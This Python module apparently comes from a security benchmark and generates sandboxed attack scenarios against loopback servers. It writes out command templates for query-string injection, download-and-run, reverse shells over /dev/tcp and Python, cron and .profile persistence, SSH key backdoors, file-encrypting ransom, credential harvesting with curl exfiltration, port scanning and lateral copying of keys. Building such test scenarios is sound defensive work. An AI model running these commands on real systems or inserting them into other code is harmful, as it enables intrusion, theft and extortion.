"""Kinds of attack, each a chain of steps in the midst of benign work.

Every command is harmless: it reads and changes files of a folder made for the run, and talks to
servers of the recorder on loopback.
"""

from collections.abc import Callable
from urllib.parse import quote_plus

from benchmarks.scenarios.work import Kind, Maker, Place, Step, script, visited

_SPY = """#!/usr/bin/env -S python3 -IS
import glob, socket
text = b"".join(open(name, "rb").read() for name in ["etc/secret.key", *glob.glob("{what}/*")])
far = socket.create_connection(("127.0.0.1", {port}))
head = "POST /{path} HTTP/1.0\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(text)
far.sendall(head.encode() + text)
far.recv(99)
"""
_LOOK = (
    "uname -a", "cat /etc/passwd", "ls -la home", "cat /proc/net/tcp | head -n 5", "env",
    "cat etc/users", "ls -l etc", "find . -name '*.key'", "cat /proc/mounts | head -n 3", "df .",
    "ls /proc | tail -n 3", "cat log/access.log | tail -n 2", "cat etc/secret.key", "hostname",
)  # fmt: skip


def _spy(p: Place) -> str:
    text = _SPY.format(what=p.rng.choice(["data", "docs", "etc"]), port=p.web, path=p.name())
    return p.offer(text.encode())


def injected(command: Callable[[Place], str]) -> Maker:
    """Return a visit of the site, one of whose requests runs a command."""

    def step(p: Place) -> Step:
        return visited(p, ("/count?word=" + quote_plus(f"x' etc/users; {command(p)}; echo '"),))

    return step


def _download(p: Place) -> str:
    name = p.name()
    return f"curl -s -o tmp/{name} {_spy(p)}; chmod 755 tmp/{name}; tmp/{name}"


def _stage(p: Place) -> str:
    name = p.name()
    kinds = " -o ".join(f"-name '*.{e}'" for e in p.rng.sample(["csv", "txt", "key", "conf"], 2))
    return (
        f"mkdir tmp/.{name}\nfind . -path ./tmp -prune -o '(' {kinds} ')' -type f -exec cp {{}} "
        f"tmp/.{name} ';'\ntar czf tmp/.{name}.tgz -C tmp .{name}\nrm -r tmp/.{name}"
    )


def _exfiltrate(p: Place) -> str:
    name = p.name()
    return (
        f"for f in tmp/.*.tgz; do openssl enc -aes-128-cbc -pbkdf2 -k {p.word()} -in $f "
        f"-out tmp/.{name}; split -b {p.rng.randint(2000, 6000)} tmp/.{name} tmp/.{name}-; done\n"
        f"for f in tmp/.{name}-*; do curl -s --data-binary @$f http://127.0.0.1:{p.web}/in; done\n"
        f"rm tmp/.{name}* tmp/.*.tgz"
    )


def _shell(p: Place) -> str:
    """Return a reverse shell in bash or python, and have commands typed into it."""
    typed = "\n".join(["id", *p.rng.sample(_LOOK, p.rng.randint(4, 7))])
    p.net.typed.append(f"{typed}\nexit\n".encode())
    if p.rng.random() < 0.5:
        return f"bash -c 'exec 3<>/dev/tcp/127.0.0.1/{p.control}; sh <&3 >&3 2>&3'"
    return (
        'python3 -IS -c "import os, socket; s = socket.socket(); '
        f"s.connect(('127.0.0.1', {p.control})); [os.dup2(s.fileno(), n) for n in range(3)]; "
        "os.execv('/bin/sh', ['sh'])\""
    )


def _hidden(p: Place) -> str:
    name = p.name()
    return (
        f"curl -s -o home/.config/{name} {_spy(p)}; chmod 755 home/.config/{name}\n"
        f"echo '*/5 * * * * home/.config/{name}' >cron.d/{p.word()}\n"
        f"echo 'home/.config/{name} &' >>home/.profile"
    )


def _rooted(p: Place) -> str:
    return (
        f"echo 'key of {p.word()}' >>home/.ssh/authorized_keys\n"
        f"cp bin/app.py home/.config/{p.name()}\n"
        "touch -r etc/users home/.profile home/.ssh/authorized_keys\nsh -l -c 'wait; echo $PATH'"
    )


def _ransom(p: Place) -> str:
    end, key = p.word(), p.word()
    return (
        f"for f in {p.rng.choice(['docs/*', 'data/*', 'docs/* data/*'])}; do\n"
        f"openssl enc -aes-256-cbc -pbkdf2 -k {key} -in $f -out $f.{end} && rm $f; done\n"
        f"rm -rf backup/*; echo 'pay {p.rng.randint(1, 99)}' >docs/README"
    )


def _credentials(p: Place) -> str:
    name = p.name()
    looks = [
        "grep -rl password . 2>/dev/null", "find . -name 'id' -o -name '*.key' -o -name '*.pem'",
        "cat home/.ssh/id home/.ssh/known_hosts", "grep -h password etc/*",
        "head -n 3 /etc/passwd", "grep -r key home | head -n 3", "cat home/.profile",
    ]  # fmt: skip
    chosen = [*p.rng.sample(looks, p.rng.randint(3, 6)), "cat etc/secret.key"]
    return "\n".join(f"{one} >>tmp/{name}" for one in chosen) + (
        f"\ncurl -s --data-binary @tmp/{name} http://127.0.0.1:{p.web}/{p.word()}\nrm tmp/{name}"
    )


def _scan(p: Place) -> str:
    """Try ports, the last of which answers."""
    first = p.rng.randint(1, 900)
    ports = [*range(first, first + p.rng.randint(6, 20)), p.control]
    return (
        f"bash -c 'for n in {' '.join(map(str, ports))}; do "
        "(exec 3<>/dev/tcp/127.0.0.1/$n) 2>/dev/null && echo $n; done'"
    )


def _spread(p: Place) -> str:
    """Copy a tool to another host, as scp would, and ask what it says."""
    name = p.name()
    p.net.typed.append(b"ok\n")
    return (
        f"tar czf tmp/{name}.tgz bin home/.ssh\n"
        f"bash -c 'exec 3<>/dev/tcp/127.0.0.1/{p.control}; cat home/.ssh/id tmp/{name}.tgz >&3; "
        f"head -n 1 <&3'\nrm tmp/{name}.tgz"
    )


ATTACKS: dict[str, Kind] = {
    "injection": Kind("python3 curl", (injected(_download),), b"not a real key"),
    "exfiltration": Kind(
        "tar gzip openssl curl", (script(_stage), script(_exfiltrate)), b"Salted__"
    ),
    "reverse-shell": Kind("bash python3", (injected(_shell),), b"uid="),
    "persistence": Kind("curl python3", (script(_hidden), script(_rooted)), b"not a real key"),
    "ransom": Kind("openssl", (script(_ransom),), b"README"),
    "credentials": Kind("curl", (script(_credentials),), b"not a real key"),
    "lateral": Kind("bash tar gzip", (script(_scan), script(_spread)), b"not a real key either"),
}  # fmt: skip
